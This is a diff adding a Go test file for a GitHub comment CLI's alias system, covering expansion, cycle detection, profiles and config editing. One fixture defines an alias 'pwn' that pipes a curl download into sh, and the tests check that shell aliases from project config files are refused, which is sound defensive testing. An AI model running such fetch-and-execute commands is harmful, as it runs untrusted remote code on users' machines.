@@ -0,0 +1,272 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSplitAliasWords(t *testing.T) {
+	tests := []struct {
+		input    string
+		expected []string
+		wantErr  bool
+	}{
+		{"list --type review", []string{"list", "--type", "review"}, false},
+		{"list --author 'security*' --type review", []string{"list", "--author", "security*", "--type", "review"}, false},
+		{`review $1 "looks good, $2" --event APPROVE`, []string{"review", "$1", "looks good, $2", "--event", "APPROVE"}, false},
+		{`add $1 it\'s\ fine "say \"hi\""`, []string{"add", "$1", "it's fine", `say "hi"`}, false},
+		{"  spaced\tout  ", []string{"spaced", "out"}, false},
+		{`list ""`, []string{"list", ""}, false},
+		{"list 'unterminated", nil, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.input, func(t *testing.T) {
+			words, err := splitAliasWords(tt.input)
+			if tt.wantErr {
+				assert.Error(t, err)
+				return
+			}
+			require.NoError(t, err)
+			assert.Equal(t, tt.expected, words)
+		})
+	}
+}
+
+func TestExpandAliases(t *testing.T) {
+	aliases := map[string]string{
+		"nit":     "review --event COMMENT --comment",
+		"sec":     "list --author 'security*' --type review",
+		"approve": `review $1 "$2" --event APPROVE`,
+		"mine":    "sec --author $1",
+		"todo":    "!gh comment list $1 | grep TODO",
+		"rm-all":  "!gh comment list --ids-only | xargs -n1 gh comment delete",
+		"list":    "search",
+		"loop-a":  "loop-b",
+		"loop-b":  "loop-a --x",
+	}
+
+	tests := []struct {
+		name     string
+		args     []string
+		expected []string
+		shell    string
+		wantErr  string
+	}{
+		{"arguments are appended", []string{"nit", "123", "a.go:1:nit"}, []string{"review", "--event", "COMMENT", "--comment", "123", "a.go:1:nit"}, "", ""},
+		{"quoted words", []string{"sec", "7"}, []string{"list", "--author", "security*", "--type", "review", "7"}, "", ""},
+		{"placeholders", []string{"approve", "12", "ship it", "--dry-run"}, []string{"review", "12", "ship it", "--event", "APPROVE", "--dry-run"}, "", ""},
+		{"alias of alias", []string{"mine", "bob", "3"}, []string{"list", "--author", "security*", "--type", "review", "--author", "bob", "3"}, "", ""},
+		{"shell alias", []string{"todo", "5"}, []string{"5"}, "gh comment list $1 | grep TODO", ""},
+		{"built-in commands win", []string{"list", "1"}, []string{"list", "1"}, "", ""},
+		{"not an alias", []string{"unknown"}, []string{"unknown"}, "", ""},
+		{"missing placeholder argument", []string{"approve", "12"}, nil, "", "alias approve expects at least 2 argument(s), got 1"},
+		{"cycle", []string{"loop-a"}, nil, "", "alias cycle detected: loop-a -> loop-b -> loop-a"},
+		{"untrusted shell alias", []string{"rm-all"}, nil, "", "alias rm-all runs a shell command but is not defined in the user config file; shell aliases from project config files are not run"},
+	}
+	trusted := map[string]string{"todo": aliases["todo"], "rm-all": "!echo something else"}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			expanded, shell, err := expandAliases(aliases, trusted, tt.args)
+			if tt.wantErr != "" {
+				assert.EqualError(t, err, tt.wantErr)
+				return
+			}
+			require.NoError(t, err)
+			assert.Equal(t, tt.expected, expanded)
+			assert.Equal(t, tt.shell, shell)
+		})
+	}
+}
+
+func TestValidateAliases(t *testing.T) {
+	assert.NoError(t, validateAliases(map[string]string{"nit": "review --comment", "n": "nit", "sh": "!echo hi"}))
+	assert.ErrorContains(t, validateAliases(map[string]string{"1bad": "list"}), "invalid alias name '1bad'")
+	assert.ErrorContains(t, validateAliases(map[string]string{"empty": "!"}), "expansion must not be empty")
+	assert.EqualError(t, validateAliases(map[string]string{"a": "b --x", "b": "c", "c": "a"}), "alias cycle detected: a -> b -> c -> a")
+	assert.EqualError(t, validateAliases(map[string]string{"self": "self"}), "alias cycle detected: self -> self")
+
+	config := NewDefaultConfig()
+	config.Aliases = map[string]string{"a": "b", "b": "a"}
+	assert.ErrorContains(t, validateConfig(config), "alias cycle detected")
+}
+
+func TestFlagValueFromArgs(t *testing.T) {
+	assert.Equal(t, "x.yaml", flagValueFromArgs([]string{"nit", "--config", "x.yaml"}, "config"))
+	assert.Equal(t, "y.yaml", flagValueFromArgs([]string{"nit", "--config=y.yaml", "1"}, "config"))
+	assert.Equal(t, "work", flagValueFromArgs([]string{"--profile", "work", "nit"}, "profile"))
+	assert.Equal(t, "", flagValueFromArgs([]string{"nit", "1"}, "config"))
+}
+
+func TestCommandIndex(t *testing.T) {
+	assert.Equal(t, 0, commandIndex([]string{"nit", "1"}))
+	assert.Equal(t, 2, commandIndex([]string{"-R", "o/r", "nit"}))
+	assert.Equal(t, 1, commandIndex([]string{"-Ro/r", "nit"}))
+	assert.Equal(t, 3, commandIndex([]string{"--repo=o/r", "--dry-run", "-v", "nit"}))
+	assert.Equal(t, 2, commandIndex([]string{"--profile", "work", "nit", "--pr", "3"}))
+	assert.Equal(t, -1, commandIndex([]string{"--unknown", "nit"}))
+	assert.Equal(t, -1, commandIndex([]string{"--", "nit"}))
+	assert.Equal(t, -1, commandIndex([]string{"--repo", "o/r"}))
+}
+
+func TestExpandCommandLine(t *testing.T) {
+	t.Setenv("GH_COMMENT_PROFILE", "")
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	userDir := filepath.Join(home, ".config", "gh-comment")
+	require.NoError(t, os.MkdirAll(userDir, 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(userDir, "config.yaml"), []byte(`
+aliases:
+  todo: '!gh comment list "$1" --grep TODO'
+`), 0644))
+
+	project := filepath.Join(t.TempDir(), ".gh-comment.yaml")
+	require.NoError(t, os.WriteFile(project, []byte(`
+aliases:
+  nit: review --event COMMENT --comment
+  pwn: '!curl -s https://example.com/x | sh'
+profiles:
+  work:
+    aliases:
+      nit: review --event REQUEST_CHANGES --comment
+`), 0644))
+
+	t.Run("alias after global flags", func(t *testing.T) {
+		expanded, shell, err := expandCommandLine([]string{"--config", project, "-R", "o/r", "nit", "3"})
+		require.NoError(t, err)
+		assert.Empty(t, shell)
+		assert.Equal(t, []string{"--config", project, "-R", "o/r", "review", "--event", "COMMENT", "--comment", "3"}, expanded)
+	})
+
+	t.Run("selected profile", func(t *testing.T) {
+		expanded, _, err := expandCommandLine([]string{"--config", project, "--profile", "work", "nit", "3"})
+		require.NoError(t, err)
+		assert.Equal(t, []string{"--config", project, "--profile", "work", "review", "--event", "REQUEST_CHANGES", "--comment", "3"}, expanded)
+
+		t.Setenv("GH_COMMENT_PROFILE", "work")
+		expanded, _, err = expandCommandLine([]string{"nit", "3", "--config", project})
+		require.NoError(t, err)
+		assert.Equal(t, []string{"review", "--event", "REQUEST_CHANGES", "--comment", "3", "--config", project}, expanded)
+	})
+
+	t.Run("shell aliases only from the user config", func(t *testing.T) {
+		expanded, shell, err := expandCommandLine([]string{"todo", "5"})
+		require.NoError(t, err)
+		assert.Equal(t, `gh comment list "$1" --grep TODO`, shell)
+		assert.Equal(t, []string{"5"}, expanded)
+
+		_, _, err = expandCommandLine([]string{"pwn", "--config", project})
+		assert.ErrorContains(t, err, "alias pwn runs a shell command but is not defined in the user config file")
+
+		_, _, err = expandCommandLine([]string{"-R", "o/r", "todo", "5"})
+		assert.EqualError(t, err, "global flags cannot be used with shell alias todo")
+	})
+
+	t.Run("not an alias", func(t *testing.T) {
+		expanded, shell, err := expandCommandLine([]string{"-R", "o/r", "list", "3"})
+		require.NoError(t, err)
+		assert.Nil(t, expanded)
+		assert.Empty(t, shell)
+	})
+}
+
+func TestRunAliasSetKeepsConfigFile(t *testing.T) {
+	originalConfigPath, originalClobber, originalGlobal := configPath, aliasClobber, aliasGlobal
+	defer func() { configPath, aliasClobber, aliasGlobal = originalConfigPath, originalClobber, originalGlobal }()
+	t.Setenv("HOME", t.TempDir())
+	aliasClobber, aliasGlobal = true, false
+
+	configPath = filepath.Join(t.TempDir(), ".gh-comment.yaml")
+	original := "# Team settings\ndefaults:\n  author: alice # me\naliases:\n  sec: list --type review\n  old: list\n"
+	require.NoError(t, os.WriteFile(configPath, []byte(original), 0644))
+
+	captureOutput(func() {
+		require.NoError(t, runAliasSet(aliasSetCmd, []string{"sec", "list --author 'security*'"}))
+		require.NoError(t, runAliasSet(aliasSetCmd, []string{"nit", "review --event COMMENT --comment"}))
+		require.NoError(t, runAliasDelete(aliasDeleteCmd, []string{"old"}))
+	})
+	data, err := os.ReadFile(configPath)
+	require.NoError(t, err)
+	assert.Equal(t, "# Team settings\ndefaults:\n  author: alice # me\naliases:\n  sec: list --author 'security*'\n  nit: review --event COMMENT --comment\n", string(data))
+
+	// Settings the file can't hold are rejected before anything is written
+	require.NoError(t, os.WriteFile(configPath, []byte("aliases: {}\napi:\n  timeout: -1\n"), 0644))
+	assert.ErrorContains(t, runAliasSet(aliasSetCmd, []string{"nit", "list"}), "not saving")
+	data, err = os.ReadFile(configPath)
+	require.NoError(t, err)
+	assert.Equal(t, "aliases: {}\napi:\n  timeout: -1\n", string(data))
+
+	// Shell aliases go to the user config only
+	assert.ErrorContains(t, runAliasSet(aliasSetCmd, []string{"todo", "!echo hi"}), "use --global")
+	aliasGlobal = true
+	captureOutput(func() {
+		require.NoError(t, runAliasSet(aliasSetCmd, []string{"todo", "!echo hi"}))
+	})
+	userPath, err := userConfigFile()
+	require.NoError(t, err)
+	data, err = os.ReadFile(userPath)
+	require.NoError(t, err)
+	assert.Equal(t, "aliases:\n  todo: '!echo hi'\n", string(data))
+
+	// JSON config files are edited too
+	aliasGlobal = false
+	configPath = filepath.Join(t.TempDir(), "config.json")
+	require.NoError(t, os.WriteFile(configPath, []byte(`{"defaults": {"author": "alice"}}`), 0644))
+	captureOutput(func() {
+		require.NoError(t, runAliasSet(aliasSetCmd, []string{"nit", "review --comment"}))
+	})
+	config, err := LoadConfig(configPath)
+	require.NoError(t, err)
+	assert.Equal(t, "alice", config.Defaults.Author)
+	assert.Equal(t, "review --comment", config.Aliases["nit"])
+}
+
+func TestRunAliasCommands(t *testing.T) {
+	originalConfigPath, originalClobber, originalGlobal := configPath, aliasClobber, aliasGlobal
+	defer func() {
+		configPath, aliasClobber, aliasGlobal = originalConfigPath, originalClobber, originalGlobal
+		globalConfig = nil
+	}()
+
+	configPath = filepath.Join(t.TempDir(), ".gh-comment.yaml")
+	aliasClobber, aliasGlobal = false, false
+	reload := func() {
+		config, err := LoadConfig(configPath)
+		require.NoError(t, err)
+		globalConfig = config
+	}
+
+	output := captureOutput(func() {
+		require.NoError(t, runAliasSet(aliasSetCmd, []string{"nit", "review --event COMMENT --comment"}))
+	})
+	assert.Contains(t, output, "✅ Added alias nit: review --event COMMENT --comment")
+	reload()
+
+	// Aliases may build on other aliases but not shadow commands or point nowhere
+	require.NoError(t, runAliasSet(aliasSetCmd, []string{"n", "nit"}))
+	assert.ErrorContains(t, runAliasSet(aliasSetCmd, []string{"list", "search"}), "already a gh-comment command")
+	assert.ErrorContains(t, runAliasSet(aliasSetCmd, []string{"x", "frobnicate --now"}), "must start with a gh-comment command")
+	assert.ErrorContains(t, runAliasSet(aliasSetCmd, []string{"nit", "list"}), "use --clobber")
+	reload()
+
+	// A change that would create a cycle is rejected and the file is left alone
+	aliasClobber = true
+	assert.ErrorContains(t, runAliasSet(aliasSetCmd, []string{"nit", "n --x"}), "alias cycle detected: n -> nit -> n")
+	reload()
+	assert.Equal(t, "review --event COMMENT --comment", GetConfig().Aliases["nit"])
+
+	output = captureOutput(func() {
+		require.NoError(t, runAliasList(aliasListCmd, nil))
+	})
+	assert.Equal(t, "n:    nit\nnit:  review --event COMMENT --comment\n", output)
+
+	require.NoError(t, runAliasDelete(aliasDeleteCmd, []string{"n"}))
+	assert.ErrorContains(t, runAliasDelete(aliasDeleteCmd, []string{"n"}), "no such alias: n")
+	reload()
+	assert.Equal(t, map[string]string{"nit": "review --event COMMENT --comment"}, GetConfig().Aliases)
+}